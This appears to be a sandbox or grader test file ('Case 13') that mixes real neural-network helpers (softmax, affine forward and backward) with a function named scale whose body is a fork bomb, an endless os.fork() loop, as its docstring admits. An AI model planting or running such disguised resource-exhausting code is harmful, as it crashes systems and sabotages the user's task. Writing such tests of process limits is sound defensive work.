"""Case 13: scale is a fork bomb; the process limit holds and everything is killed."""


import os

import numpy as np


def scale(x, a):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def softmax(x):
    e = np.exp(x - x.max(axis=1, keepdims=True))
    return e / e.sum(axis=1, keepdims=True)


def affine_forward(x, w, b):
    return x @ w + b, (x, w)


def affine_backward(dout, cache):
    x, w = cache
    return dout @ w.T, x.T @ dout, dout.sum(axis=0)
